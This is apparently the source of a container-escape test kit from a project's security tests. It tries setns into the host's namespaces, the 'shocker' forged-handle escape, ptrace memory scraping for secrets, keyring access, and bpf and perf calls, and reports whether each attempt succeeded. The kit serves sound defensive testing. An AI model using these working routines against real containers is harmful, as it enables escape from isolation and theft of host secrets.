/*
 * The attack kit: the calls busybox has no applet for, made from inside a test container. Built
 * statically by tests/security/conftest.py (gcc -static) and put into the attack image. Each attempt
 * prints one line, "<attempt>: ok" or "<attempt>: <errno name>", plus what it got where that is the
 * point ("read: ...", "found: needle N", "exe: ...").
 *
 * It never writes to anything it reached: a file is only opened for writing (the open is the escape),
 * a key added to a keyring is removed at once, a device is only read, and its bytes are not printed.
 * A defence that fails therefore shows in the output without damaging the host.
 *
 *   kit nsenter TYPE [FILE]     setns into /proc/1/ns/TYPE (our ns before and after), then read FILE
 *   kit mem-grep PID HEX...     ptrace-attach PID, read its memory, say which needle (hex-encoded) it holds
 *   kit race-pid1 HEX...        the same, started as the container's command, racing the init's last exec
 *   kit keyring                 read, and add to, the kernel keyrings of the container's uid
 *   kit open-write PATH...      open each PATH for writing
 *   kit map-files PID           open each /proc/PID/map_files entry for writing
 *   kit shocker MOUNT FILE      open_by_handle_at the root inode of MOUNT's filesystem, then read FILE there
 *   kit bpf | perf | unshare-user   load a socket filter / open a CPU-wide perf event / a user namespace
 *   kit read-dev PATH           read 512 bytes of a device (the count only is printed)
 *   kit ids                     the real, effective and saved uids: a setuid-root copy of the kit shows
 *                               what a setuid program gains (unlike busybox, it drops nothing)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int report(const char *what, long result) {
    const char *name = strerrorname_np(errno);
    if (result < 0)
        printf("%s: %s\n", what, name ? name : "error");
    else
        printf("%s: ok\n", what);
    return result >= 0;
}

static void print_link(const char *label, const char *path) {
    char target[512] = {0};
    if (readlink(path, target, sizeof target - 1) > 0)
        printf("%s: %s\n", label, target);
    else
        report(label, -1);
}

static void open_write(const char *path) {
    char what[600];
    snprintf(what, sizeof what, "open-write %s", path);
    int fd = open(path, O_WRONLY);
    report(what, fd);
    if (fd >= 0)
        close(fd);
}

static void read_file(const char *what, int dirfd, const char *path) {
    int fd = openat(dirfd, path, O_RDONLY);
    report(what, fd);
    char data[256] = {0};
    if (fd >= 0 && read(fd, data, sizeof data - 1) > 0)
        printf("read: %s\n", data);
}

/* Needles come in hex, so that the strings looked for are in no process of the container. */
static char **unhex_all(int count, char **hex) {
    for (int i = 0; i < count; i++) {
        size_t length = strlen(hex[i]) / 2;
        char *out = calloc(length + 1, 1);
        for (size_t j = 0; j < length; j++)
            sscanf(hex[i] + 2 * j, "%2hhx", (unsigned char *)&out[j]);
        hex[i] = out;
    }
    return hex;
}

/* With PID stopped (attached) or not: its exe, fds and memory, grepped for the needles. */
static void loot(pid_t pid, int count, char **needles) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    print_link("exe", path);
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *fds = opendir(path);
    report("list-fds", fds ? 0 : -1);
    struct dirent *entry;
    while (fds && (entry = readdir(fds))) {
        char label[300], link[600];
        if (entry->d_name[0] == '.')
            continue;
        snprintf(label, sizeof label, "fd %s", entry->d_name);
        snprintf(link, sizeof link, "%s/%s", path, entry->d_name);
        print_link(label, link);
    }
    if (fds)
        closedir(fds);
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDONLY);
    report("open-mem", mem);
    if (!maps || mem < 0)
        return;
    char line[512];
    static char buffer[1 << 22];
    while (fgets(line, sizeof line, maps)) {
        unsigned long start, end;
        char perms[5];
        if (sscanf(line, "%lx-%lx %4s", &start, &end, perms) != 3 || perms[0] != 'r')
            continue;
        static char previous[512];
        char *file = strchr(line, '/');
        if (file && strcmp(file, previous)) {        /* each mapped file once */
            printf("maps: %s", file);
            snprintf(previous, sizeof previous, "%s", file);
        }
        for (unsigned long at = start; at < end; at += sizeof buffer) {
            size_t size = end - at < sizeof buffer ? end - at : sizeof buffer;
            ssize_t got = pread(mem, buffer, size, (off_t)at);
            for (int i = 0; got > 0 && i < count; i++)
                if (memmem(buffer, (size_t)got, needles[i], strlen(needles[i])))
                    printf("found: needle %d\n", i);
        }
    }
    fclose(maps);
    close(mem);
}

/* Seized and interrupted rather than PTRACE_ATTACHed: no SIGSTOP, and no SIGTRAP after an exec, can be
   left behind to stop the container's init for good. */
static int attach(pid_t pid) {
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0)
        return -1;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    return 0;
}

static void detach(pid_t pid) {
    ptrace(PTRACE_DETACH, pid, 0, 0);
    kill(pid, SIGCONT);
}

static int mem_grep(pid_t pid, int count, char **needles) {
    unhex_all(count, needles);
    int attached = report("ptrace-attach", attach(pid));
    loot(pid, count, needles);
    if (attached)
        detach(pid);
    return 0;
}

/* The init execs pid1 once this command runs: until then PID 1 is a fork of the agent's launch helper. */
static int race_pid1(int count, char **needles) {
    unhex_all(count, needles);
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (long tries = 1;; tries++) {
        char target[256] = {0};
        if (readlink("/proc/1/exe", target, sizeof target - 1) > 0 && !strncmp(target, "/memfd:", 7)) {
            printf("race: pid1 already exec'd after %ld tries (%s)\n", tries, target);
            return 0;
        }
        if (attach(1) == 0) {
            printf("race: attached to the init before pid1, after %ld tries\n", tries);
            loot(1, count, needles);
            detach(1);
            return 0;
        }
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec - start.tv_sec > 2) {
            report("race: ptrace-attach", -1);
            return 0;
        }
    }
}

static int keyring(void) {
    /* KEY_SPEC_USER_KEYRING (-4): the keyring of the container's uid, shared with the host's processes
       of that uid, root's included. */
    char description[256] = {0};
    if (report("keyctl-describe-user-keyring", syscall(SYS_keyctl, 6 /* DESCRIBE */, -4, description,
                                                       sizeof description - 1)))
        printf("keyring: %s\n", description);
    int32_t serials[64];
    report("keyctl-read-user-keyring", syscall(SYS_keyctl, 11 /* READ */, -4, serials, sizeof serials));
    long key = syscall(SYS_add_key, "user", "reconciler-test-key", "x", 1, -4);
    if (report("add-key-user-keyring", key)) {
        syscall(SYS_keyctl, 9 /* UNLINK */, key, -4);
        syscall(SYS_keyctl, 21 /* INVALIDATE */, key);
    }
    return 0;
}

/* The "shocker" escape: a handle forged for inode 2 (the root of ext2/3/4) opens the root of the
   filesystem MOUNT lives on, whatever part of it the container was given. */
static int shocker(const char *mount, const char *file) {
    struct {
        struct file_handle handle;
        uint32_t inode_and_generation[2];
    } forged = {.handle = {.handle_bytes = 8, .handle_type = 1 /* FILEID_INO32_GEN */},
                .inode_and_generation = {2, 0}};
    int mount_fd = open(mount, O_RDONLY | O_DIRECTORY);
    report("open-mount", mount_fd);
    int root = open_by_handle_at(mount_fd, &forged.handle, O_RDONLY | O_DIRECTORY);
    if (report("open-by-handle", root))
        read_file("open-through-handle", root, file);
    return 0;
}

static int bpf(void) {
    unsigned long long insns[2] = {0x00000000000000b7ULL /* r0 = 0 */, 0x0000000000000095ULL /* exit */};
    unsigned int attr[32] = {0};
    attr[0] = 1; /* BPF_PROG_TYPE_SOCKET_FILTER */
    attr[1] = 2; /* instructions */
    unsigned long long pointers[2] = {(unsigned long)insns, (unsigned long)"GPL"};
    memcpy(&attr[2], pointers, sizeof pointers);
    report("bpf-prog-load", syscall(SYS_bpf, 5 /* BPF_PROG_LOAD */, attr, sizeof attr));
    return 0;
}

static int perf(void) {
    struct perf_event_attr attr = {.type = PERF_TYPE_SOFTWARE, .size = sizeof attr,
                                   .config = PERF_COUNT_SW_CPU_CLOCK, .disabled = 1};
    /* Every process on CPU 0, the host's included: needs CAP_PERFMON (or CAP_SYS_ADMIN). */
    report("perf-event-open-cpu-wide", syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0));
    return 0;
}

static int read_dev(const char *path) {
    char what[600];
    snprintf(what, sizeof what, "open-read %s", path);
    int fd = open(path, O_RDONLY);
    if (!report(what, fd))
        return 0;
    static char block[512];
    ssize_t got = read(fd, block, sizeof block);
    if (got < 0)
        report("read-dev", -1);
    else
        printf("read-dev: %zd bytes\n", got);
    return 0;
}

static int nsenter(const char *type, const char *file) {
    char path[64], label[64];
    snprintf(path, sizeof path, "/proc/self/ns/%s", type);
    snprintf(label, sizeof label, "%s before", type);
    print_link(label, path);
    char target[64];
    snprintf(target, sizeof target, "/proc/1/ns/%s", type);
    int ns = open(target, O_RDONLY);
    snprintf(label, sizeof label, "%s open", type);
    report(label, ns);
    snprintf(label, sizeof label, "%s setns", type);
    report(label, setns(ns, 0));
    snprintf(label, sizeof label, "%s after", type);
    print_link(label, path);
    if (file)
        read_file("open-after-setns", AT_FDCWD, file);
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    const char *cmd = argc > 1 ? argv[1] : "";
    if (!strcmp(cmd, "nsenter") && argc >= 3)
        return nsenter(argv[2], argc > 3 ? argv[3] : NULL);
    if (!strcmp(cmd, "mem-grep") && argc >= 3)
        return mem_grep(atoi(argv[2]), argc - 3, argv + 3);
    if (!strcmp(cmd, "race-pid1"))
        return race_pid1(argc - 2, argv + 2);
    if (!strcmp(cmd, "keyring"))
        return keyring();
    if (!strcmp(cmd, "open-write")) {
        for (int i = 2; i < argc; i++)
            open_write(argv[i]);
        return 0;
    }
    if (!strcmp(cmd, "map-files") && argc == 3) {
        char path[600];
        snprintf(path, sizeof path, "/proc/%s/map_files", argv[2]);
        DIR *dir = opendir(path);
        report("list-map-files", dir ? 0 : -1);
        struct dirent *entry;
        while (dir && (entry = readdir(dir))) {
            if (entry->d_name[0] == '.')
                continue;
            char file[900];
            snprintf(file, sizeof file, "%s/%s", path, entry->d_name);
            print_link("maps", file);
            open_write(file);
        }
        return 0;
    }
    if (!strcmp(cmd, "shocker") && argc == 4)
        return shocker(argv[2], argv[3]);
    if (!strcmp(cmd, "bpf"))
        return bpf();
    if (!strcmp(cmd, "perf"))
        return perf();
    if (!strcmp(cmd, "unshare-user"))
        return report("unshare-user", unshare(CLONE_NEWUSER)), 0;
    if (!strcmp(cmd, "read-dev") && argc == 3)
        return read_dev(argv[2]);
    if (!strcmp(cmd, "ids")) {
        uid_t real, effective, saved;
        getresuid(&real, &effective, &saved);
        printf("uids: %u %u %u\n", real, effective, saved);
        return 0;
    }
    fprintf(stderr, "kit: unknown command '%s' (see tests/security/attack_kit.c)\n", cmd);
    return 2;
}
